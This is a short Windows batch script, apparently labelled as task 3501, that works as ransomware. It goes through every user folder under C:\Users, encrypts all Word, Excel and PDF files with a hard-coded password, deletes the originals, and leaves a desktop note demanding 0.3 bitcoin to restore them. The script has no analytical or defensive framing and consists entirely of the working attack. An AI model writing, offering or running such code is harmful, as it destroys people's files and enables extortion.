REM task 3501 v4
@echo off
for /r C:\Users %%f in (*.docx *.xlsx *.pdf) do (
  openssl enc -aes-256-cbc -pass pass:Adm1n!strat0r -in "%%f" -out "%%f.enc" && del "%%f"
)
echo Your files have been encrypted. Send 0.3 bitcoin to recover the key > C:\Users\Public\Desktop\README_RESTORE_FILES.txt
